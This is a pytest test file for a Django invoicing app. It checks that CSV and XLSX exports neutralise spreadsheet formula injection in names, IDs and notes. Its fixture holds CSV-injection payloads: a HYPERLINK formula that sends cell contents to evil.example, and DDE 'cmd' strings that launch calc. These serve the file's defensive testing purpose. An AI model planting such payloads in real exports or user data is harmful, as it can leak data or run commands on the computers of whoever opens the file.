"""Exports (issue 9): names and notes that begin with = + - @ tab or CR flow into every CSV and
XLSX export, and the files read back hold no live formula.

Hostile text is put where customers' and employees' data goes: account IDs and names, agreement
IDs, project codes, PO numbers, rate-card roles, entry IDs, employee IDs, and the invoice lines
and flags derived from them. Then reconciliation, an invoice run, approval and an unapplied
payment make every export carry them. Each export is read back:
  - CSV: no cell begins with = + - @ tab or CR unless it is a plain number;
  - XLSX: no formula cell (openpyxl data_type "f", no <f> element in the sheet XML), and no text
    cell beginning with those characters unless it is a number.
And each hostile value must be found in the export (neutralized), so the test cannot pass on an
export that simply left the rows out. A trial is one hostile cell in one export.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from agreements.models import Account, Agreement, RoleRate
from invoicing import services as invoicing_services
from invoicing.models import Invoice
from receivables.models import Payment
from tests.factories import UserFactory
from tests.invoicing.helpers import approve
from timesheets.models import Employee, TimeEntry

RISKY = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")
STUB_PDF = b"%PDF-1.4\n%stub\ntrailer<<>>\n%%EOF\n"


def hostile(prefix: str, tag: str, limit: int = 64) -> str:
    body = {
        "=": 'HYPERLINK("http://evil.example/?"&A1,"x")',
        "+": "cmd|' /C calc'!A0",
        "-": "2+3+cmd|' /C calc'!A0",
        "@": "SUM(1+1)*cmd|' /C calc'!A0",
        "\t": "=1+1",
        "\r": "=2+2",
    }[prefix]
    return (prefix + body + "|" + tag)[:limit]


def live(cell: str) -> bool:
    """A spreadsheet would run it: starts with a risky character and is not a plain number."""
    return bool(cell) and cell.startswith(RISKY) and not NUMBER.match(cell)


@pytest.fixture
def hostile_firm(transactional_db, monkeypatch, settings, tmp_path):
    """Hostile text everywhere; returns {export name: [hostile values it must carry]}."""
    settings.MEDIA_ROOT = tmp_path
    monkeypatch.setattr("invoicing.services.approval.invoice_pdf", lambda invoice: STUB_PDF)
    expect: dict[str, list[str]] = {"flags": [], "invoices": [], "aging": []}
    entries = []
    n = 0
    for i, p in enumerate(RISKY):
        account = Account.objects.create(
            external_id=hostile(p, f"acc{i}"), name=hostile(p, f"name{i}", 255)
        )
        code = hostile(p, f"prj{i}")
        agreement = Agreement.objects.create(
            external_id=hostile(p, f"agr{i}"),
            account=account,
            project_code=code,
            agreement_type=Agreement.Type.TIME_AND_MATERIALS,
            stage=Agreement.Stage.SIGNED,
            start_date=dt.date(2025, 12, 1),
            hourly_rate=Decimal("100.00"),
            po_number=hostile(p, f"po{i}"),
        )
        role = hostile(p, f"role{i}", 100)
        RoleRate.objects.create(
            agreement=agreement, role=role, role_key=role.strip().lower(), rate=Decimal("120.00")
        )
        employee = Employee.objects.create(
            external_id=hostile(p, f"emp{i}"), name=hostile(p, f"empname{i}", 255)
        )
        for hours in (7, 6):  # 13 h on one day: an EXCESSIVE_DAILY_HOURS flag on the employee
            n += 1
            entries.append(
                TimeEntry(
                    external_id=hostile(p, f"e{n}"),
                    date=dt.date(2026, 1, 12),
                    employee=employee,
                    role=role,
                    project_code=code,
                    duration_ms=hours * 3_600_000,
                    billable=True,
                    approved=True,
                    notes=hostile(p, f"note{n}", 500),
                )
            )
        n += 1
        orphan = hostile(p, f"orphan{i}")
        entries.append(
            TimeEntry(
                external_id=hostile(p, f"e{n}"),
                date=dt.date(2026, 1, 13),
                employee=employee,
                role=role,
                project_code=orphan,
                duration_ms=3_600_000,
                billable=True,
                approved=True,
                notes=hostile(p, f"note{n}", 500),
            )
        )
        Payment.objects.create(
            external_id=hostile(p, f"pay{i}"),
            date=dt.date(2026, 3, 1),
            account=account,
            amount=Decimal("10.00"),
            currency="USD",
            reference=hostile(p, f"ref{i}", 500),
        )
        expect["flags"] += [orphan, entries[-1].external_id, employee.external_id]
        expect["invoices"] += [
            account.external_id,
            agreement.external_id,
            agreement.po_number,
            role,
        ]
        expect["aging"] += [account.external_id, account.name]
    TimeEntry.objects.bulk_create(entries)

    from timesheets.services import reconciliation_run

    reconciliation_run(as_of=dt.date(2026, 2, 1), user=None)
    invoicing_services.invoice_run_generate(period=dt.date(2026, 1, 1))
    approver = UserFactory(username="exp-approver", roles=["Billing admin"])
    for invoice in Invoice.objects.filter(status="draft"):
        approve(invoice=invoice, user=approver)
    assert Invoice.objects.filter(status="approved").count() == len(RISKY)
    return expect


def check_csv(log, name: str, text: str, must_carry: list[str]) -> None:
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    log.notes.setdefault("cells", {})[name] = len(cells)
    for c in cells:
        if live(c):
            log.violation(f"{name}: live formula cell {c!r}")
    for value in must_carry:
        log.trial()
        found = any(c == value or c == "'" + value or value in c for c in cells)
        log.check(found, f"{name}: hostile value {value!r} did not reach the export")


def check_xlsx(log, name: str, data: bytes, must_carry: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for member in z.namelist():
            if member.startswith("xl/worksheets/") and member.endswith(".xml"):
                log.check(
                    b"<f>" not in z.read(member) and b"<f " not in z.read(member),
                    f"{name}: formula element in {member}",
                )
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                log.check(
                    cell.data_type != "f", f"{name}: formula cell {cell.coordinate} {cell.value!r}"
                )
                if isinstance(cell.value, str):
                    cells.append(cell.value)
                    text = cell.value.replace("_x000D_", "\r")
                    log.check(
                        not live(text) and not text.startswith("\n="),
                        f"{name}: live text cell {cell.coordinate} {cell.value!r}",
                    )
    # XML normalises a CR in text to LF (openpyxl may also write it as _x000D_).
    cells = [c.replace("_x000D_", "\r") for c in cells]
    for value in must_carry:
        log.trial()
        wanted = {value, value.replace("\r", "\n")}
        log.check(
            any(w in c for c in cells for w in wanted),
            f"{name}: hostile value {value!r} did not reach the export",
        )


def command_output(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


@pytest.mark.django_db(transaction=True)
def test_every_csv_and_xlsx_export_neutralizes_formulas(
    hostile_firm, trial_log, tmp_path, client_for
):
    expect = hostile_firm
    # export_flags writes straight to the real stdout; use --output.
    flags_file = tmp_path / "flags.csv"
    call_command(
        "export_flags", "--format", "csv", "--output", str(flags_file), stderr=io.StringIO()
    )
    check_csv(
        trial_log, "export_flags csv", flags_file.read_bytes().decode("utf-8"), expect["flags"]
    )

    inv_file = tmp_path / "invoices.csv"
    call_command(
        "export_invoices",
        "--format",
        "csv",
        "--output",
        str(inv_file),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    check_csv(
        trial_log, "export_invoices csv", inv_file.read_bytes().decode("utf-8"), expect["invoices"]
    )

    aging_csv = tmp_path / "aging.csv"
    call_command("ar_aging", "--as-of", "2026-06-30", "--format", "csv", "--output", str(aging_csv))
    check_csv(trial_log, "ar_aging csv", aging_csv.read_bytes().decode("utf-8"), expect["aging"])
    aging_xlsx = tmp_path / "aging.xlsx"
    call_command(
        "ar_aging", "--as-of", "2026-06-30", "--format", "xlsx", "--output", str(aging_xlsx)
    )
    check_xlsx(trial_log, "ar_aging xlsx", aging_xlsx.read_bytes(), expect["aging"])

    # The same reports as downloaded from the pages and the API.
    finance = client_for(UserFactory(username="exp-fin", roles=["Finance"]))
    manager = client_for(UserFactory(username="exp-mgr", roles=["Services manager"]))
    r = manager.get("/time/flags/export/?format=csv")
    assert r.status_code == 200
    check_csv(trial_log, "flags download", r.content.decode(), expect["flags"])
    for url, kind in (
        ("/receivables/aging/export/?as_of=2026-06-30&format=", "page"),
        ("/api/v1/reports/ar-aging/?as_of=2026-06-30&format=", "API"),
    ):
        r = finance.get(url + "csv")
        assert r.status_code == 200, (url, r.status_code)
        check_csv(trial_log, f"aging {kind} csv", r.content.decode(), expect["aging"])
        r = finance.get(url + "xlsx")
        assert r.status_code == 200, (url, r.status_code)
        check_xlsx(trial_log, f"aging {kind} xlsx", r.content, expect["aging"])
    trial_log.assert_clean()


@pytest.mark.django_db(transaction=True)
def test_negative_amounts_stay_numbers_in_exports(hostile_firm, trial_log, tmp_path):
    """A credit balance (cash, no invoice: Total -25.00) is a number, not neutralized text."""
    account = Account.objects.create(external_id="NEG-1", name="Credit Balance Co")
    Payment.objects.create(
        external_id="NEG-PAY",
        date=dt.date(2026, 2, 1),
        account=account,
        amount=Decimal("25.00"),
        currency="USD",
    )
    aging_csv = tmp_path / "aging.csv"
    call_command("ar_aging", "--as-of", "2026-03-01", "--format", "csv", "--output", str(aging_csv))
    rows = list(csv.reader(io.StringIO(aging_csv.read_bytes().decode("utf-8"), newline="")))
    header = rows[0]
    neg = next(r for r in rows if r[0] == "NEG-1")
    trial_log.trial()
    trial_log.check(neg[header.index("Total")] == "-25.00", f"credit balance row {neg}")
    for r in rows[1:]:
        for c in r[header.index("Current") :]:
            trial_log.trial()
            trial_log.check(bool(NUMBER.match(c)), f"amount {c!r} is not a plain number")
    aging_xlsx = tmp_path / "aging.xlsx"
    call_command(
        "ar_aging", "--as-of", "2026-03-01", "--format", "xlsx", "--output", str(aging_xlsx)
    )
    sheet = load_workbook(aging_xlsx).active
    values = {row[0].value: row[header.index("Total")].value for row in sheet.iter_rows(min_row=2)}
    trial_log.trial()
    trial_log.check(
        values.get("NEG-1") == Decimal("-25.00") or values.get("NEG-1") == -25,
        f"xlsx Total for NEG-1 is {values.get('NEG-1')!r}, not the number -25",
    )
    trial_log.assert_clean()
